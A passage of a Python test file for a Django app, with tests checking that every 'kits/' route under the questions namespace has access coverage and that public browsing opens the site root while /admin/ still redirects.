        covered = {path for path, _ in ACCESS} | {path for path, _ in KIT_CHANGES}

        def routes(patterns, prefix=""):
            for pattern in patterns:
                if hasattr(pattern, "url_patterns"):  # an include
                    yield from routes(pattern.url_patterns, prefix + str(pattern.pattern))
                else:
                    yield prefix + str(pattern.pattern)

        [questions] = [
            pattern
            for pattern in get_resolver().url_patterns
            if getattr(pattern, "namespace", None) == "questions"
        ]
        kit_routes = [
            route for route in routes(questions.url_patterns) if route.startswith("kits/")
        ]
        assert kit_routes
        for route in kit_routes:
            pattern = re.sub(r"<[^>]+>", "[^/]+", route)
            assert any(re.fullmatch("/" + pattern, path.split("?")[0]) for path in covered), route

    def test_the_bank_is_open_to_all_only_when_public_browsing_is_on(
        self, client, settings, targets
    ):
        settings.PUBLIC_BROWSING = True
        assert client.get("/").status_code == 200
        assert client.get("/admin/").status_code == 302
